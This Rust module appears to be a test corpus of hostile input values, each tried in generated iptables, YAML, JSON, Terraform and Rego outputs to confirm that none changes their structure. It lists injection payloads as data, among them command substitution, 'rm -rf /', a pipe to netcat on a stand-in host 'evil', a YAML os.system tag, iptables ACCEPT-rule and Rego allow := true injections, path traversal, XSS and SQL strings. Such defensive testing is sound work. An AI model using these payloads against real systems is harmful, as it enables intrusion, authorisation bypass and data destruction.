//! The hostile values: every class issue 8 lists (quotes, backslashes, line
//! breaks, NUL and other controls, shell, iptables, YAML, JSON, Terraform and
//! Rego metacharacters, paths, Unicode look-alikes, 10k-character strings,
//! empty strings) and a few more. Each value is tried in every position of
//! the projects in `project.rs`; none may change the structure of an output.
//!
//! `HOSTILE_FILTER=<substring>` keeps only the values whose label contains
//! it (to chase one failure); `HOSTILE_MAX=<n>` keeps the first n.

/// One value with a short ASCII label for messages.
#[derive(Clone, Debug)]
pub struct Value {
    pub label: String,
    pub text: String,
}

const FIXED: &[(&str, &str)] = &[
    // Quotes and escapes.
    ("double-quote", "\""),
    ("quoted-word", "a\"b"),
    ("single-quote", "it's"),
    ("backslash", "a\\b"),
    ("trailing-backslash", "x\\"),
    ("escaped-quote", "\\\""),
    ("json-escape-text", "\\u0000\\n"),
    ("percent-escape", "%22%0A%2F"),
    // Line breaks, NUL and other control characters.
    ("newline", "a\nb"),
    ("crlf", "a\r\nb"),
    ("carriage-return", "a\rb"),
    ("nul", "a\0b"),
    ("tab", "a\tb"),
    ("escape-sequence", "a\u{1b}[2Jb"),
    ("bell-backspace", "a\u{7}\u{8}b"),
    ("vertical-tab-form-feed", "a\u{b}\u{c}b"),
    ("delete", "a\u{7f}b"),
    ("c1-csi", "a\u{9b}31mb"),
    ("next-line", "a\u{85}b"),
    ("line-separator", "a\u{2028}b"),
    ("paragraph-separator", "a\u{2029}b"),
    ("byte-order-mark", "\u{feff}a"),
    ("noncharacters", "a\u{fffe}\u{ffff}b"),
    // Shell.
    ("command-substitution", "$(touch /tmp/seg-hostile-pwned)"),
    ("backticks", "`id`"),
    ("semicolon", "a; rm -rf /"),
    ("pipe", "a | nc evil 1"),
    ("and-and", "a && b"),
    ("hash", "#comment"),
    ("dollar-var", "$HOME"),
    ("glob-star", "*"),
    ("redirect", "> /etc/passwd"),
    // iptables-restore.
    (
        "iptables-quote-break",
        "x\" -j ACCEPT -m comment --comment \"",
    ),
    ("iptables-jump", "-j ACCEPT"),
    ("iptables-dport", "--dport 22"),
    ("iptables-append", "-A INPUT -j ACCEPT"),
    ("iptables-line", "x\n-A INPUT -j ACCEPT\nCOMMIT\n"),
    ("iptables-table", "*filter"),
    ("iptables-chain", ":INPUT ACCEPT [0:0]"),
    ("iptables-commit", "COMMIT"),
    // YAML.
    ("yaml-mapping", "key: value"),
    ("yaml-sequence", "- item"),
    ("yaml-flow-map", "{}"),
    ("yaml-flow-seq", "[]"),
    ("yaml-flow-pair", "{a: b, c: [d]}"),
    ("yaml-anchor", "&anchor"),
    ("yaml-alias", "*alias"),
    ("yaml-tag", "!!python/object/apply:os.system ['id']"),
    ("yaml-document-start", "---"),
    ("yaml-document-end", "..."),
    ("yaml-complex-key", "? x"),
    ("yaml-block", "|"),
    ("yaml-folded", ">-"),
    ("yaml-comment", "x #y"),
    ("yaml-directive", "%YAML 1.1"),
    ("yaml-yes", "yes"),
    ("yaml-on", "on"),
    ("yaml-null", "null"),
    ("yaml-tilde", "~"),
    ("yaml-octal", "0777"),
    ("yaml-float", "1e3"),
    ("yaml-sexagesimal", "1:20"),
    ("yaml-at", "@x"),
    ("leading-space", " x"),
    ("trailing-space", "x "),
    ("only-space", " "),
    // JSON.
    ("json-close", "\"}"),
    ("json-inject", "\",\"admin\":true,\"x\":\""),
    ("json-object", "{\"a\":1}"),
    // Terraform and other templates.
    ("terraform-interpolation", "${file(\"/etc/passwd\")}"),
    ("terraform-directive", "%{ if true }x%{ endif }"),
    ("terraform-escaped", "$${x}"),
    ("template-braces", "{{ .Values.x }}"),
    // Rego.
    ("rego-break", "\"} allow := true {"),
    ("rego-import", "import data.x"),
    ("rego-package", "package x"),
    ("rego-default", "default allow := true"),
    ("rego-line", "x\nallow := true\n"),
    ("rego-or", "x\" || true || \""),
    ("rego-ref", "data.seg.authz.allow"),
    // Paths.
    ("slash", "/"),
    ("a-slash-b", "a/b"),
    ("dot", "."),
    ("dot-dot", ".."),
    ("dot-slash", "./x"),
    ("traversal", "../../etc/passwd"),
    ("inner-traversal", "a/../../b"),
    ("encoded-traversal", "..%2F..%2Fetc"),
    ("absolute", "/etc/passwd"),
    ("hidden", ".hidden"),
    ("windows-path", "C:\\Windows\\x"),
    ("unc-path", "\\\\server\\share"),
    ("device-con", "con"),
    ("device-nul-upper", "NUL"),
    ("dash-option", "-rf"),
    ("tilde-user", "~root"),
    // Unicode look-alikes and case folding.
    ("cyrillic-a", "p\u{430}yments"),
    ("fullwidth", "\u{ff50}\u{ff41}\u{ff59}"),
    ("zero-width-joiner", "pay\u{200d}ments"),
    ("zero-width-space", "pay\u{200b}ments"),
    ("rtl-override", "\u{202e}evil"),
    ("left-to-right-mark", "a\u{200e}b"),
    ("combining-acute", "e\u{301}"),
    ("precomposed-acute", "\u{e9}"),
    ("greek-omicron", "\u{3bf}"),
    ("kelvin-sign", "\u{212a}"),
    ("latin-k", "k"),
    ("upper-a", "A"),
    ("lower-a", "a"),
    ("dotted-capital-i", "\u{130}"),
    ("sharp-s", "\u{df}"),
    ("ligature", "\u{fb01}x"),
    ("emoji", "\u{1f525}"),
    ("astral-letter", "\u{1d52d}"),
    // Other classic payloads.
    ("html", "<script>alert(1)</script>"),
    ("sql", "'; DROP TABLE x; --"),
    ("format-string", "%s%n{0}$1"),
    ("number", "0"),
    ("negative", "-1"),
    ("boolean-word", "true"),
    ("empty", ""),
];

/// Every value, fixed and generated (10k-character strings, DNS-length edges).
pub fn values() -> Vec<Value> {
    let mut out: Vec<Value> = FIXED
        .iter()
        .map(|(label, text)| Value {
            label: (*label).to_string(),
            text: (*text).to_string(),
        })
        .collect();
    let long = [
        ("long-ascii-10k", "x".repeat(10_000)),
        (
            "long-ascii-10k-differs-at-end",
            format!("{}y", "x".repeat(9_999)),
        ),
        ("long-accents-10k", "\u{e9}".repeat(10_000)),
        ("long-slashes-10k", "/".repeat(10_000)),
        ("long-quotes-10k", "\"".repeat(10_000)),
        ("long-newlines", "\n".repeat(2_000)),
        ("long-dollar-braces", "${".repeat(3_000)),
        ("label-63", "a".repeat(63)),
        ("label-64", "a".repeat(64)),
        ("name-253", "a".repeat(253)),
        ("name-256", "a".repeat(256)),
    ];
    out.extend(long.into_iter().map(|(label, text)| Value {
        label: label.to_string(),
        text,
    }));
    if let Ok(filter) = std::env::var("HOSTILE_FILTER") {
        out.retain(|v| v.label.contains(&filter));
    }
    if let Some(max) = std::env::var("HOSTILE_MAX")
        .ok()
        .and_then(|m| m.parse::<usize>().ok())
    {
        out.truncate(max);
    }
    let mut seen = std::collections::BTreeSet::new();
    for v in &out {
        assert!(
            seen.insert(v.text.clone()),
            "corpus value {} twice",
            v.label
        );
    }
    out
}
